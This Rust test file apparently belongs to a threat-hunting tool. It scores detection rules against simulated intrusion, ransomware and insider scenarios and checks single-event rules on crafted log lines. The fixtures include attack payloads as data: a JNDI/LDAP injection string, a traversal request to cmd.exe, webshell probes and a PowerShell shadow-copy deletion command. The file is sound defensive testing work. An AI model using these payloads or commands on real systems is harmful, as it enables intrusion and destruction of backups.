//! Detection content against the simulator: for every scenario and several seeds, `mamori hunt`
//! (rules + baseline analytics) must find every malicious step and raise at most one false alert
//! per 100k benign events.
//!
//! A timeline row is a true alert when it points at a malicious record (`file:line`), or when it
//! is a correlation / analytics row naming an indicator of the scenario (the attacker's address,
//! the abused account or key). A step is found when a row of one of its expected rules does so
//! for that step. Rows of kind `signal` add risk and are not alerts (counted apart); a risk
//! alert (kind `risk`) counts for the rules and events of the signals it cites.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::Value;

use crate::{corpus, mamori, text};

struct Score {
    steps: usize,
    found: usize,
    missed: Vec<String>,
    rows: usize,
    signals: usize,
    false_rows: Vec<String>,
    benign: u64,
}

fn run_scenario(dir: &Path, scenario: &str, seed: u64, days: u32, per_day: u32) -> Score {
    let out_dir = dir.join(format!("{scenario}-{seed}"));
    let o = out_dir.to_str().unwrap();
    let sim = mamori(&[
        "simulate",
        scenario,
        "--out",
        o,
        "--seed",
        &seed.to_string(),
        "--days",
        &days.to_string(),
        "--events-per-day",
        &per_day.to_string(),
        // The rule content on its own; the realistic background is `fidelity`'s.
        "--background",
        "simple",
    ]);
    assert_eq!(sim.status.code(), Some(0), "{}", text(&sim.stderr));
    let timeline = out_dir.join("timeline.jsonl");
    let mut args: Vec<String> = [
        "hunt",
        &format!("{o}/logs"),
        "--rules",
        "rules",
        "--identities",
        &format!("{o}/identities.csv"),
        "--format",
        "jsonl",
        "-o",
        timeline.to_str().unwrap(),
        "-q",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // With the MaxMind test databases the simulated addresses have countries (staff in JP).
    if let Some(c) = corpus() {
        let g = c.join("geoip-maxmind-test/test-data");
        for (flag, db) in [
            ("--geoip-city", "GeoLite2-City-Test.mmdb"),
            ("--geoip-asn", "GeoLite2-ASN-Test.mmdb"),
        ] {
            args.push(flag.into());
            args.push(g.join(db).display().to_string());
        }
    }
    let hunt = mamori(&args.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(hunt.status.code(), Some(0), "{}", text(&hunt.stderr));
    let steps: Vec<Value> = std::fs::read_to_string(out_dir.join("ground_truth.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let all_rows: Vec<Value> = std::fs::read_to_string(&timeline)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (signal_rows, rows): (Vec<Value>, Vec<Value>) =
        all_rows.into_iter().partition(|r| r["kind"] == "signal");
    // A risk alert stands for the signals it cites.
    let cited = |r: &Value| -> Vec<Value> {
        r["event"]["risk"]["signals"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    let strs = |v: &Value| -> Vec<String> {
        v.as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default()
    };
    let loc_of = |s: &str| -> String { s.rsplit('/').next().unwrap_or(s).to_owned() };
    let locs = |r: &Value| -> Vec<String> {
        let mut v = vec![loc_of(r["source"].as_str().unwrap_or_default())];
        v.extend(
            cited(r)
                .iter()
                .map(|s| loc_of(s["source"].as_str().unwrap_or_default())),
        );
        // An episode of failed probes cites its requests (mamori_detect::outcome).
        v.extend(
            r["evidence"]["sources"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|s| s.as_str().map(loc_of)),
        );
        v
    };
    let rule_ids = |r: &Value| -> Vec<String> {
        let mut v = vec![r["rule"]["id"].as_str().unwrap_or_default().to_owned()];
        v.extend(
            cited(r)
                .iter()
                .filter_map(|s| s["rule_id"].as_str().map(str::to_owned)),
        );
        // … and names the rules of its probes.
        v.extend(strs(&r["evidence"]["rules"]));
        v
    };
    let details = |r: &Value| r["details"].to_string();
    let is_aggregate = |r: &Value| {
        r["source"] == "correlation"
            || r["evidence"].is_object()
            || r["rule"]["id"]
                .as_str()
                .is_some_and(|id| id.starts_with("mamori-analytics"))
    };
    let names = |r: &Value, inds: &[String]| {
        let d = details(r);
        inds.iter().any(|i| d.contains(i.as_str()))
    };
    let mut bad: BTreeSet<String> = BTreeSet::new();
    let mut all_inds: Vec<String> = Vec::new();
    for s in &steps {
        bad.extend(strs(&s["events"]));
        all_inds.extend(strs(&s["indicators"]));
    }
    let mut missed = Vec::new();
    for s in &steps {
        let detect = strs(&s["detect"]);
        let events = strs(&s["events"]);
        let inds = strs(&s["indicators"]);
        let found = rows.iter().any(|r| {
            rule_ids(r).iter().any(|id| detect.contains(id))
                && (locs(r).iter().any(|l| events.contains(l))
                    || (is_aggregate(r) && names(r, &inds)))
        });
        if !found {
            missed.push(s["step"].as_str().unwrap_or_default().to_owned());
        }
    }
    let false_rows: Vec<String> = rows
        .iter()
        .filter(|r| {
            !(locs(r).iter().any(|l| bad.contains(l)) || (is_aggregate(r) && names(r, &all_inds)))
        })
        .map(|r| format!("{} {} {}", r["rule"]["title"], r["source"], details(r)))
        .collect();
    let summary = text(&sim.stderr);
    let benign = summary
        .split(": ")
        .nth(1)
        .and_then(|s| s.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    Score {
        steps: steps.len(),
        found: steps.len() - missed.len(),
        missed,
        rows: rows.len(),
        signals: signal_rows.len(),
        false_rows,
        benign,
    }
}

const SCENARIOS: [&str; 5] = [
    "vpn-intrusion",
    "webmail-exploit",
    "ransomware",
    "insider-export",
    "vendor-key",
];

#[test]
fn every_scenario_and_seed_is_found_without_false_alerts() {
    let dir = tempfile::tempdir().unwrap();
    for scenario in SCENARIOS {
        for seed in [1, 2, 3] {
            let s = run_scenario(dir.path(), scenario, seed, 14, 300);
            assert!(
                s.missed.is_empty(),
                "{scenario} seed {seed}: missed {:?}",
                s.missed
            );
            // At most 1 false alert per 100k benign events.
            let allowed = s.benign / 100_000;
            assert!(
                s.false_rows.len() as u64 <= allowed,
                "{scenario} seed {seed}: {} false alerts over {} benign events:\n{}",
                s.false_rows.len(),
                s.benign,
                s.false_rows.join("\n")
            );
        }
    }
}

/// Prints the README table from a larger run:
/// `cargo test -p mamori --test it scenario_table -- --ignored --nocapture`.
#[test]
#[ignore]
fn scenario_table() {
    let dir = tempfile::tempdir().unwrap();
    println!("| scenario | runs | steps found (recall) | alerts | false alerts | signals (not alerts) | benign events | false alerts / 100k | precision |");
    println!("|---|---|---|---|---|---|---|---|---|");
    for scenario in SCENARIOS {
        let (mut steps, mut found, mut rows, mut fp, mut benign, mut signals) = (0, 0, 0, 0, 0, 0);
        for seed in 1..=3 {
            let s = run_scenario(dir.path(), scenario, seed, 21, 5_000);
            steps += s.steps;
            found += s.found;
            rows += s.rows;
            signals += s.signals;
            fp += s.false_rows.len();
            benign += s.benign;
            for f in &s.false_rows {
                println!("FALSE {scenario} {seed}: {f}");
            }
        }
        println!(
            "| {scenario} | 3 | {found}/{steps} ({:.0} %) | {rows} | {fp} | {signals} | {benign} | {:.2} | {:.1} % |",
            100.0 * found as f64 / steps as f64,
            fp as f64 * 100_000.0 / benign as f64,
            100.0 * (rows - fp) as f64 / rows.max(1) as f64
        );
    }
}

/// One line per rule of the pack that no scenario exercises, and near misses that must stay
/// quiet: `(log line, title expected on it or "" for none)`.
#[test]
fn single_event_rules_fire_and_near_misses_stay_quiet() {
    let web = |url: &str, status: u16, ua: &str| {
        format!("203.0.113.9 - - [02/Mar/2026:02:00:40 +0000] \"GET {url} HTTP/1.1\" {status} 100 \"-\" \"{ua}\"")
    };
    let ff = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:129.0) Gecko/20100101 Firefox/129.0";
    let access: Vec<(String, &str)> = vec![
        (
            web("/.git/config", 404, ff),
            "Probe For Sensitive Files Or Admin Endpoints",
        ),
        (
            web("/db/config.php.bak", 404, ff),
            "Probe For Sensitive Files Or Admin Endpoints",
        ),
        (
            web("/images/c99.php", 200, ff),
            "Known Webshell File Name Requested",
        ),
        (
            web("/default.ida?XXXXXXXX", 404, ff),
            "Known Worm Or IIS Exploit Probe",
        ),
        (web("http://www.example.com/", 200, ff), "Open Proxy Probe"),
        (
            web("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", 404, ff),
            "Command Interpreter Requested Over HTTP",
        ),
        (
            web("/", 200, "ZmEu"),
            "Web Vulnerability Scanner Activity From One Source",
        ),
        (
            web("/am_bin/amlogin?lang=%24%7bjndi:ldap://x/a%7d", 500, ff),
            "Webmail Or CGI Endpoint Exploitation Attempt",
        ),
        // near misses
        (web("/search?q=select+gift", 200, ff), ""),
        (web("/am_bin/attachment?id=123", 200, ff), ""),
        (web("/images/logo.png", 200, ff), ""),
        (web("/static/app.js", 200, ff), ""),
    ];
    let win = |id: u32, data: &str| {
        format!("{{\"TimeCreated\": \"2026-03-02T03:00:01.000Z\", \"EventID\": {id}, \"Channel\": \"{}\", \"Computer\": \"FS01.corp.example\", \"Provider_Name\": \"p\", {data}}}",
            match id { 1 => "Microsoft-Windows-Sysmon/Operational", 7045 | 104 => "System", _ => "Security" })
    };
    let windows: Vec<(String, &str)> = vec![
        (
            win(
                4648,
                r#""SubjectUserName": "sato", "TargetUserName": "adm", "TargetServerName": "DB01""#,
            ),
            "Logon With Explicit Credentials To Another Host",
        ),
        (
            win(104, r#""SubjectUserName": "adm""#),
            "Event Log Cleared Or Disabled",
        ),
        (
            win(
                1,
                r#""Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete()}", "ParentImage": "C:\\Windows\\System32\\wsmprovhost.exe""#,
            ),
            "Backup Or Shadow Copy Deletion",
        ),
        // near misses: runas to the local machine, a machine account, a shell started by Explorer
        (
            win(
                4648,
                r#""SubjectUserName": "sato", "TargetUserName": "adm", "TargetServerName": "localhost""#,
            ),
            "",
        ),
        (
            win(
                4648,
                r#""SubjectUserName": "FS01$", "TargetUserName": "adm", "TargetServerName": "DB01""#,
            ),
            "",
        ),
        (
            win(
                1,
                r#""Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe", "ParentImage": "C:\\Windows\\explorer.exe""#,
            ),
            "",
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, lines: &[(String, &str)]| {
        let text: String = lines.iter().map(|(l, _)| format!("{l}\n")).collect();
        std::fs::write(dir.path().join(name), text).unwrap();
    };
    write("access.log", &access);
    write("windows.jsonl", &windows);
    let out = mamori(&[
        "hunt",
        dir.path().to_str().unwrap(),
        "--rules",
        "rules",
        "--format",
        "jsonl",
        "-q",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let rows: Vec<Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (file, cases) in [("access.log", &access), ("windows.jsonl", &windows)] {
        for (i, (line, want)) in cases.iter().enumerate() {
            let at = format!("{file}:{}", i + 1);
            let titles: Vec<&str> = rows
                .iter()
                .filter(|r| r["source"].as_str().is_some_and(|s| s.ends_with(&at)))
                .filter_map(|r| r["rule"]["title"].as_str())
                .collect();
            if want.is_empty() {
                assert!(titles.is_empty(), "{line}\nmust not alert, got {titles:?}");
            } else {
                assert!(titles.contains(want), "{line}\nwant {want}, got {titles:?}");
            }
        }
    }
}

#[test]
fn simulate_rejects_unknown_scenarios_and_baseline_state_carries_over() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let out = mamori(&["simulate", "nope", "--out", d]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("vpn-intrusion"));

    let sim = format!("{d}/sim");
    let out = mamori(&[
        "simulate",
        "ransomware",
        "--out",
        &sim,
        "--days",
        "12",
        "--events-per-day",
        "200",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // Learn from the logs, save the state, then hunt again starting from it: the state file
    // exists, is JSON, and the second run still finds the phished login from a new address.
    let state = format!("{d}/baseline.json");
    let mut last = String::new();
    for _ in 0..2 {
        let out = mamori(&[
            "hunt",
            &format!("{sim}/logs"),
            "--rules",
            "rules",
            "--baseline-state",
            &state,
            "-q",
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        last = text(&out.stdout);
    }
    assert!(
        last.lines()
            .any(|l| l.contains("first-seen-address") && l.contains("175.16.199.18")),
        "{last}"
    );
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(&state).unwrap()).unwrap();
    assert!(saved["accounts"]["sato"].is_object(), "{saved}");
}
